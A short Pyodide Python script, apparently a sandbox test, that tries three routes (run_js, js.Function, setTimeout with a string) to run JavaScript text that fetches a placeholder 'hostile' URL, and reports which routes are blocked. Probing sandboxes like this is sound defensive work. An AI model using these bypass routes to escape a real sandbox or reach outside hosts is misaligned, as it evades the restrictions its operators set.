# Text made into code.
import js
from pyodide.ffi import run_sync
from pyodide.code import run_js

for attempt in (
    lambda: run_js("fetch('http://the-site/path?hostile')"),
    lambda: js.Function.new("return fetch('http://the-site/path?hostile')")(),
    lambda: js.setTimeout("fetch('http://the-site/path?hostile')", 1),
):
    try:
        run_sync(attempt())
        print("GOT")
    except Exception as error:
        print(type(error).__name__)
